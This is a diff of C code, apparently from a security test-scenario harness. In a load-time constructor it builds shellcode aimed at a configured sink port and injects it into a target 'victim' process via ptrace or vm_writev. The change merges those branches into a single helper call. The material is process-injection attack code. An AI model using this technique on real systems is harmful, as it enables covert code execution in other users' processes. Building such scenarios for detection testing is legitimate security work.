@@ -19,20 +19,11 @@ __attribute__((constructor)) static void inject_init(void)
 				 .port = scn_port("SCENARIO_SINK_PORT") };
 	pid_t victim = scn_victim_pid();
 	size_t len;
-	int err;
 
 	scn_mark("ran");
 	scn_shellcode_markers(ran, done, sizeof(done));
 	len = scn_shellcode_build(sc, &o);
 	if (!victim || !len)
 		return;
-#if defined(SCN_INJECT_PTRACE)
-	err = scn_inject_ptrace(victim, sc, len, scn_shellcode_code_len());
-#else
-	err = scn_inject_vm_writev(victim, sc, len);
-#endif
-	if (!err)
-		err = scn_wait_exit(victim, 3000);
-	if (err)
-		fprintf(stderr, "inject: %s\n", strerror(-err));
+	scn_inject_run(SCN_INJECT_METHOD, victim, sc, len, scn_shellcode_code_len());
 }
